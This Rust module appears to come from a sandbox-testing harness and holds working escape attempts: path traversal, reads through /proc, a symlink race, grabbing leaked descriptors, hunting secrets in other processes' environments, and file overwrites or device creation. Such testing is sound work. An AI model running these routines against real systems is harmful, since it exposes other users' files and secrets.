//! Reading and writing what is somebody else's.

use std::ffi::CString;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Read, Write};
use std::os::fd::FromRawFd;
use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::{Loot, check, nothing};

const MOST: u64 = 256 * 1024;

pub fn attack(name: &str, args: &[&str]) -> Option<Loot> {
    Some(match (name, args) {
        ("read", [path]) => read(Path::new(path)),
        ("read-by-parents", [path]) => {
            read(&Path::new("..").join("../../../../../../../../../..").join(relative(path)))
        }
        ("read-by-processes", [path]) => by_processes(Path::new(path)),
        ("read-by-link", [path]) => by_link(Path::new(path)),
        ("read-by-swapped-link", [path]) => by_swapped_link(Path::new(path)),
        ("read-by-hard-link", [path]) => {
            let name = Path::new("hard-link");
            fs::hard_link(path, name).and_then(|()| read(name))
        }
        ("read-descriptors", []) => descriptors(),
        ("hunt", [needle, roots @ ..]) => hunt(needle, roots),
        ("hunt-processes", [needle]) => hunt_processes(needle),
        ("closed-files", roots) => closed_files(roots),
        ("overwrite", [path]) => OpenOptions::new().write(true).open(path).and_then(overwrite),
        ("append", [path]) => OpenOptions::new().append(true).open(path).and_then(overwrite),
        ("create", [path]) => OpenOptions::new().write(true).create_new(true).open(path).and_then(overwrite),
        ("open-for-writing", [path]) => OpenOptions::new().write(true).open(path).map(|_| (*path).to_owned()),
        ("remove", [path]) => fs::remove_file(path).map(|()| String::new()),
        ("touch-mode", [path]) => touch_mode(Path::new(path)),
        ("touch-time", [path]) => touch_time(path),
        ("write-kernel-settings", roots) => kernel_settings(roots),
        ("swap-names", [one, other, milliseconds]) => swap_names(one, other, milliseconds),
        ("make-device", [path]) => make_device(path),
        _ => return None,
    })
}

fn relative(path: &str) -> &str {
    path.trim_start_matches('/')
}

fn text(file: File) -> io::Result<String> {
    let mut raw = Vec::new();
    Read::take(file, MOST).read_to_end(&mut raw)?;
    Ok(String::from_utf8_lossy(&raw).into_owned())
}

fn open(path: &Path) -> io::Result<File> {
    OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY).open(path)
}

fn read(path: &Path) -> Loot {
    let file = open(path)?;
    if file.metadata()?.is_dir() {
        let names: Vec<_> = fs::read_dir(path)?.flatten().map(|e| e.file_name()).collect();
        return if names.is_empty() { Err(nothing("an empty directory")) } else { Ok(format!("{names:?}")) };
    }
    text(file)
}

/// Two names of this directory change places, again and again, each time in one step.
fn swap_names(one: &str, other: &str, milliseconds: &str) -> Loot {
    let [one, other] = [CString::new(one)?, CString::new(other)?];
    let until = Duration::from_millis(milliseconds.parse().map_err(io::Error::other)?);
    let (begun, here, mut times) = (Instant::now(), libc::AT_FDCWD, 0);
    while begun.elapsed() < until {
        // SAFETY: both names are NUL-terminated and outlive the call.
        let swapped = unsafe {
            libc::syscall(libc::SYS_renameat2, here, one.as_ptr(), here, other.as_ptr(), libc::RENAME_EXCHANGE)
        };
        check(swapped)?;
        times += 1;
    }
    Ok(format!("{times} times"))
}

fn overwrite(mut file: File) -> Loot {
    file.write_all(b"hostile was here\n").map(|()| "wrote".to_owned())
}

fn numbers(directory: &str) -> impl Iterator<Item = String> {
    fs::read_dir(directory)
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| e.file_name().into_string().ok())
        .filter(|n| n.bytes().all(|b| b.is_ascii_digit()))
}

/// By the root and the current directory of every process but this one.
fn by_processes(path: &Path) -> Loot {
    let own = std::process::id().to_string();
    let mut last = nothing("no other process");
    for pid in numbers("/proc").filter(|p| *p != own).chain(["self".to_owned(), "thread-self".to_owned()]) {
        for start in ["root", "cwd/../../../../../../../.."] {
            match read(&PathBuf::from(format!("/proc/{pid}/{start}")).join(relative(&path.to_string_lossy()))) {
                Ok(loot) => return Ok(loot),
                Err(e) => last = e,
            }
        }
    }
    Err(last)
}

fn by_link(path: &Path) -> Loot {
    let link = Path::new("planted-link");
    match std::os::unix::fs::symlink(path, link) {
        Err(e) if e.kind() != io::ErrorKind::AlreadyExists => return Err(e),
        _ => {}
    }
    read(link)
}

/// A link that changes between an innocent and the wanted file while it is opened.
fn by_swapped_link(path: &Path) -> Loot {
    fs::write("innocent", "innocent")?;
    let target = path.to_owned();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let seen = stop.clone();
    let swapper = std::thread::spawn(move || {
        while !seen.load(std::sync::atomic::Ordering::Relaxed) {
            for to in [Path::new("innocent"), &target] {
                let _ = fs::remove_file("swapped.new");
                let _ = std::os::unix::fs::symlink(to, "swapped.new");
                let _ = fs::rename("swapped.new", "swapped");
            }
        }
    });
    let mut result = Err(nothing("swapped link"));
    let begun = std::time::Instant::now();
    while begun.elapsed() < std::time::Duration::from_millis(1500) {
        match open(Path::new("swapped")).and_then(text) {
            Ok(found) if found != "innocent" => {
                result = Ok(found);
                break;
            }
            _ => {}
        }
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let _ = swapper.join();
    result
}

/// What was left open for whoever comes next.
fn descriptors() -> Loot {
    let mut loot = String::new();
    for fd in 3..256 {
        // SAFETY: fcntl with a number that may not be a descriptor gives EBADF; what it duplicates is owned here.
        let copy = unsafe { libc::fcntl(fd, libc::F_DUPFD_CLOEXEC, 300) };
        if copy >= 0 {
            // SAFETY: just duplicated, owned by nobody else.
            let file = unsafe { File::from_raw_fd(copy) };
            loot.push_str(&format!("[{fd}] {} ", text(file).unwrap_or_default()));
        }
    }
    if loot.is_empty() { Err(nothing("open descriptors")) } else { Ok(loot) }
}

/// Looks for a needle in every file below some directories.
fn hunt(needle: &str, roots: &[&str]) -> Loot {
    let mut found = Vec::new();
    let mut stack: Vec<PathBuf> = roots.iter().map(PathBuf::from).collect();
    let mut visited = 0u32;
    while let Some(path) = stack.pop() {
        visited += 1;
        let Ok(meta) = path.symlink_metadata() else { continue };
        if meta.is_dir() {
            stack.extend(fs::read_dir(&path).into_iter().flatten().flatten().map(|e| e.path()));
        } else if meta.is_file() && open(&path).and_then(text).is_ok_and(|t| t.contains(needle))
            || meta.is_symlink() && fs::read_link(&path).is_ok_and(|t| t.to_string_lossy().contains(needle))
        {
            found.push(path.display().to_string());
        } else if meta.file_type().is_socket() {
            let _ = std::os::unix::net::UnixStream::connect(&path);
        }
    }
    if found.is_empty() {
        Err(io::Error::other(format!("the needle is in none of {visited} files")))
    } else {
        Ok(found.join(" "))
    }
}

/// Looks for a needle in what /proc tells of every other process.
fn hunt_processes(needle: &str) -> Loot {
    let own = std::process::id().to_string();
    let mut found = Vec::new();
    for pid in numbers("/proc").filter(|p| *p != own) {
        let mut places: Vec<PathBuf> =
            ["environ", "cmdline", "auxv", "comm", "mountinfo", "stack", "syscall", "maps", "status", "smaps"]
                .iter()
                .map(|n| PathBuf::from(format!("/proc/{pid}/{n}")))
                .collect();
        places.extend(numbers(&format!("/proc/{pid}/fd")).map(|n| PathBuf::from(format!("/proc/{pid}/fd/{n}"))));
        for place in places {
            let is_ours = fs::read_link(&place).is_ok_and(|l| l.to_string_lossy().starts_with("pipe:"));
            if !is_ours && open(&place).and_then(text).is_ok_and(|t| t.contains(needle)) {
                found.push(place.display().to_string());
            }
        }
    }
    if found.is_empty() { Err(nothing("processes")) } else { Ok(found.join(" ")) }
}

/// Files that the world may not read and this process can.
fn closed_files(roots: &[&str]) -> Loot {
    let mut found = Vec::new();
    let mut stack: Vec<PathBuf> = roots.iter().map(PathBuf::from).collect();
    while let Some(path) = stack.pop() {
        let Ok(meta) = path.symlink_metadata() else { continue };
        if meta.is_dir() {
            // Settings of the kernel are no secret, and processes have attacks of their own.
            if !["/proc/self", "/proc/sys", "/proc/irq"].iter().any(|p| path.starts_with(p)) && !numbers_only(&path) {
                stack.extend(fs::read_dir(&path).into_iter().flatten().flatten().map(|e| e.path()));
            }
        } else if meta.is_file()
            && meta.mode() & 0o444 != 0
            && meta.mode() & 0o004 == 0
            // Files of the kernel have no size.
            && (meta.len() > 0 || path.starts_with("/proc"))
            && open(&path).is_ok()
        {
            found.push(path.display().to_string());
        }
    }
    if found.is_empty() { Err(nothing("closed files")) } else { Ok(found.join(" ")) }
}

fn numbers_only(path: &Path) -> bool {
    path.file_name().is_some_and(|n| n.to_string_lossy().bytes().all(|b| b.is_ascii_digit()))
}

/// Sets the mode that the file already has: harmless, and visible in its change time.
fn touch_mode(path: &Path) -> Loot {
    let mode = path.metadata()?.mode() & 0o7777;
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).map(|()| format!("{mode:o}"))
}

fn touch_time(path: &str) -> Loot {
    let path = CString::new(path)?;
    // SAFETY: a NUL-terminated path and no times: "now".
    check(libc::c_long::from(unsafe { libc::utimensat(libc::AT_FDCWD, path.as_ptr(), std::ptr::null(), 0) }))
        .map(|_| String::new())
}

/// Every kernel setting that can be opened for writing. Nothing is written. A network namespace's own are its own.
fn kernel_settings(roots: &[&str]) -> Loot {
    let mut found = Vec::new();
    let mut stack: Vec<PathBuf> = roots.iter().map(PathBuf::from).collect();
    while let Some(path) = stack.pop() {
        let Ok(meta) = path.symlink_metadata() else { continue };
        if meta.is_dir() {
            if !path.starts_with("/proc/sys/net") && !path.starts_with("/proc/self") && !numbers_only(&path) {
                stack.extend(fs::read_dir(&path).into_iter().flatten().flatten().map(|e| e.path()));
            }
        } else if meta.is_file()
            // Open to everybody by design: bounded by the kernel, and guarded by a capability at the write.
            && !path.starts_with("/proc/pressure")
            && path != Path::new("/proc/sys/kernel/ns_last_pid")
            && OpenOptions::new().write(true).custom_flags(libc::O_NONBLOCK).open(&path).is_ok()
        {
            found.push(path.display().to_string());
        }
    }
    if found.is_empty() { Err(nothing("kernel settings")) } else { Ok(found.join(" ")) }
}

/// A node of the memory device (1:5 is /dev/zero: harmless, and proof enough).
fn make_device(path: &str) -> Loot {
    let name = CString::new(path)?;
    // SAFETY: a NUL-terminated path.
    check(libc::c_long::from(unsafe { libc::mknod(name.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 5)) }))?;
    let mut byte = [7u8; 1];
    open(Path::new(path))?.read_exact(&mut byte)?;
    Ok(format!("{byte:?}"))
}
